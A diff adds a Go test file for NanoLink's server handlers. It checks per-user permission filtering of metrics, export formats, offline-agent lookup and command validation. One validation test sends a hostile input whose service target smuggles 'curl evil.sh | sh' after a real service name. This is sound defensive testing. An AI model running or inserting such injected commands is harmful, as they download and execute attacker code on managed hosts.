@@ -0,0 +1,233 @@
+package handler
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chenqi92/NanoLink/apps/server/internal/database"
+	"github.com/chenqi92/NanoLink/apps/server/internal/service"
+	"github.com/gin-gonic/gin"
+	"go.uber.org/zap"
+	"gorm.io/driver/sqlite"
+	"gorm.io/gorm"
+	"gorm.io/gorm/logger"
+)
+
+// newViewerPermissions returns a permission service with a non-admin user
+// granted agent-1 only
+func newViewerPermissions(t *testing.T) (*service.PermissionService, *database.User) {
+	t.Helper()
+	db, err := gorm.Open(sqlite.Open("file::memory:"), &gorm.Config{
+		Logger: logger.Default.LogMode(logger.Silent),
+	})
+	if err != nil {
+		t.Fatalf("Failed to open test database: %v", err)
+	}
+	sqlDB, err := db.DB()
+	if err != nil {
+		t.Fatalf("Failed to get sql.DB: %v", err)
+	}
+	sqlDB.SetMaxOpenConns(1)
+	t.Cleanup(func() { sqlDB.Close() })
+	if err := db.AutoMigrate(&database.User{}, &database.Group{}, &database.AgentGroup{}, &database.UserAgentPermission{}); err != nil {
+		t.Fatal(err)
+	}
+
+	log := zap.NewNop().Sugar()
+	perms := service.NewPermissionService(db, log)
+	viewer := &database.User{Username: "viewer"}
+	if err := db.Create(viewer).Error; err != nil {
+		t.Fatal(err)
+	}
+	if err := perms.SetUserAgentPermission(viewer.ID, "agent-1", database.PermissionReadOnly, viewer.ID); err != nil {
+		t.Fatal(err)
+	}
+	return perms, viewer
+}
+
+// newPermissionTestHandler returns a handler whose requests run as a
+// non-admin user granted agent-1 only, with metrics for agent-1 and a
+// restricted agent
+func newPermissionTestHandler(t *testing.T) *gin.Engine {
+	t.Helper()
+	gin.SetMode(gin.TestMode)
+	perms, viewer := newViewerPermissions(t)
+
+	log := zap.NewNop().Sugar()
+	ms := service.NewMetricsService(log)
+	ms.StoreMetrics("agent-1", &service.MetricsData{AgentID: "agent-1", Timestamp: time.Now(), CPU: service.CPUData{UsagePercent: 42.5}})
+	ms.StoreMetrics("restricted", &service.MetricsData{AgentID: "restricted", Timestamp: time.Now()})
+	h := NewHandlerWithPermissions(service.NewAgentService(log, ms), ms, perms, log)
+
+	router := gin.New()
+	router.Use(func(c *gin.Context) { c.Set(ContextKeyUser, viewer) })
+	router.GET("/api/metrics", h.GetAllMetrics)
+	router.GET("/api/metrics/history", h.GetMetricsHistory)
+	router.GET("/api/agents/:id/metrics/export", h.ExportMetricsHistory)
+	router.GET("/api/summary/weighted", h.GetWeightedSummary)
+	return router
+}
+
+func TestMetricsHistoryExcludesRestrictedAgents(t *testing.T) {
+	router := newPermissionTestHandler(t)
+	get := func(url string) *httptest.ResponseRecorder {
+		rec := httptest.NewRecorder()
+		router.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, url, nil))
+		return rec
+	}
+
+	// There is no "all agents" history to leak through
+	if rec := get("/api/metrics/history"); rec.Code != http.StatusBadRequest {
+		t.Errorf("Expected 400 without an agentId, got %d", rec.Code)
+	}
+	if rec := get("/api/metrics/history?agentId=restricted"); rec.Code != http.StatusForbidden {
+		t.Errorf("Expected 403 for the restricted agent's history, got %d", rec.Code)
+	}
+	rec := get("/api/metrics/history?agentId=agent-1")
+	if rec.Code != http.StatusOK {
+		t.Fatalf("Expected the visible agent's history, got %d: %s", rec.Code, rec.Body.String())
+	}
+	var history []map[string]interface{}
+	if err := json.Unmarshal(rec.Body.Bytes(), &history); err != nil {
+		t.Fatal(err)
+	}
+	for _, entry := range history {
+		if entry["agentId"] != "agent-1" {
+			t.Errorf("Expected only agent-1's history, got %v", entry["agentId"])
+		}
+	}
+
+	// Current metrics are filtered the same way
+	var current map[string]interface{}
+	if err := json.Unmarshal(get("/api/metrics").Body.Bytes(), &current); err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := current["restricted"]; ok || current["agent-1"] == nil {
+		t.Errorf("Expected only agent-1's current metrics, got %v", current)
+	}
+}
+
+func TestWeightedSummaryExcludesRestrictedAgents(t *testing.T) {
+	router := newPermissionTestHandler(t)
+	rec := httptest.NewRecorder()
+	router.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/summary/weighted", nil))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("Expected 200, got %d: %s", rec.Code, rec.Body.String())
+	}
+
+	var summary map[string]interface{}
+	if err := json.Unmarshal(rec.Body.Bytes(), &summary); err != nil {
+		t.Fatal(err)
+	}
+	// Only agent-1 counts: the restricted agent's 0% CPU would halve the average
+	if summary["agentCount"] != float64(1) || summary["avgCpuPercent"] != 42.5 {
+		t.Errorf("Expected a summary of agent-1 only, got %v", summary)
+	}
+}
+
+func TestSendCommandRejectsInvalidTemplates(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	log := zap.NewNop().Sugar()
+	ms := service.NewMetricsService(log)
+	h := NewHandler(service.NewAgentService(log, ms), ms, log)
+	h.SetCommandTemplates(service.DefaultCommandTemplates())
+
+	router := gin.New()
+	router.POST("/api/agents/:id/command", h.SendCommand)
+	send := func(body string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(http.MethodPost, "/api/agents/agent-1/command", strings.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		rec := httptest.NewRecorder()
+		router.ServeHTTP(rec, req)
+		return rec
+	}
+
+	rec := send(`{"type": "SERVICE_RESTART", "target": "nginx && curl evil.sh | sh"}`)
+	if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "service") {
+		t.Errorf("Expected 400 naming the service target, got %d: %s", rec.Code, rec.Body.String())
+	}
+	if rec := send(`{"type": "FORMAT_DISK"}`); rec.Code != http.StatusBadRequest {
+		t.Errorf("Expected 400 for an unknown command type, got %d", rec.Code)
+	}
+	// A valid command gets past validation to the agent lookup
+	if rec := send(`{"type": "SERVICE_RESTART", "target": "nginx"}`); rec.Code != http.StatusNotFound {
+		t.Errorf("Expected the valid command to reach the agent lookup, got %d", rec.Code)
+	}
+}
+
+func TestGetAgentReturnsKnownOfflineAgents(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	log := zap.NewNop().Sugar()
+	ms := service.NewMetricsService(log)
+	agents := service.NewAgentService(log, ms)
+	agents.RegisterGrpcAgent("agent-1", service.AgentInfo{Hostname: "web-1"}, 0)
+	agents.UnregisterAgent("agent-1")
+	h := NewHandler(agents, ms, log)
+
+	router := gin.New()
+	router.GET("/api/agents/:id", h.GetAgent)
+	get := func(url string) *httptest.ResponseRecorder {
+		rec := httptest.NewRecorder()
+		router.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, url, nil))
+		return rec
+	}
+
+	rec := get("/api/agents/agent-1")
+	if rec.Code != http.StatusOK {
+		t.Fatalf("Expected 200 for a known offline agent, got %d: %s", rec.Code, rec.Body.String())
+	}
+	var body struct {
+		Hostname string `json:"hostname"`
+		Status   string `json:"status"`
+	}
+	if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil {
+		t.Fatal(err)
+	}
+	if body.Status != service.AgentOffline || body.Hostname != "web-1" {
+		t.Errorf("Expected web-1 reported offline, got %+v", body)
+	}
+	if rec := get("/api/agents/unknown"); rec.Code != http.StatusNotFound {
+		t.Errorf("Expected 404 for an unknown agent, got %d", rec.Code)
+	}
+}
+
+func TestExportMetricsHistory(t *testing.T) {
+	router := newPermissionTestHandler(t)
+	get := func(url string) *httptest.ResponseRecorder {
+		rec := httptest.NewRecorder()
+		router.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, url, nil))
+		return rec
+	}
+
+	if rec := get("/api/agents/restricted/metrics/export"); rec.Code != http.StatusForbidden {
+		t.Errorf("Expected 403 exporting the restricted agent, got %d", rec.Code)
+	}
+	if rec := get("/api/agents/agent-1/metrics/export?format=xml"); rec.Code != http.StatusBadRequest {
+		t.Errorf("Expected 400 for an unknown format, got %d", rec.Code)
+	}
+
+	rec := get("/api/agents/agent-1/metrics/export")
+	if rec.Code != http.StatusOK || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") {
+		t.Fatalf("Expected a CSV export, got %d %s", rec.Code, rec.Header().Get("Content-Type"))
+	}
+	lines := strings.Split(strings.TrimSpace(rec.Body.String()), "\n")
+	if len(lines) != 2 || !strings.HasPrefix(lines[0], "timestamp,cpu_percent,mem_percent,disk_read_ps") {
+		t.Fatalf("Expected a header and one row, got %q", rec.Body.String())
+	}
+	if fields := strings.Split(lines[1], ","); len(fields) != 10 || fields[1] != "42.5" {
+		t.Errorf("Expected the sample's CPU in the second column, got %q", lines[1])
+	}
+
+	rec = get("/api/agents/agent-1/metrics/export?format=json")
+	var rows []map[string]interface{}
+	if err := json.Unmarshal(rec.Body.Bytes(), &rows); err != nil {
+		t.Fatalf("Expected a JSON array, got %q: %v", rec.Body.String(), err)
+	}
+	if len(rows) != 1 || rows[0]["cpuPercent"] != 42.5 {
+		t.Errorf("Expected one sample with its CPU, got %v", rows)
+	}
+}